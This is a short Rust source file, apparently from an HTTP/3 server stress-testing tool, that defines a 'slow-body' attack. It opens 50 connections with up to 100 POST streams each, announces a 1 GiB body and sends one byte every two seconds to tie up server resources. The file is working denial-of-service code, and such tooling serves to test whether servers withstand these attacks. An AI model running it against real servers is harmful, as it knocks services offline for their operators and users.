//! Requests whose content arrives byte by byte.

use crate::attack::{Plan, Victim};
use crate::http::{self, Method};

use super::{Crowd, crowd};

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "slow-body",
    labels: &["A39", "A88"],
    summary: "a hundred uploads on each of 50 connections, one byte every two seconds",
    victim: Victim::Server,
    make: || Box::new(slow_body()),
};

fn slow_body() -> Crowd {
    Crowd::of_clients(50, |connection, progress, _| {
        let mut request = http::request(Method::Post, "/");
        request.extend(http::header(http::DATA, 1 << 30));
        let offset = request.len() as u64 + progress.offset;
        if progress.streams == 0 {
            progress.streams = crowd::permitted(connection, progress, 100);
            for index in 0..progress.streams {
                let id = http::request_stream(index);
                connection.push_bytes(http::stream(id, 0, &request, false));
            }
        }
        for index in 0..progress.streams {
            let id = http::request_stream(index);
            connection.push_bytes(http::stream(id, offset, &[0], false));
        }
        progress.offset += 1;
    })
    .with_pause(std::time::Duration::from_secs(2))
}
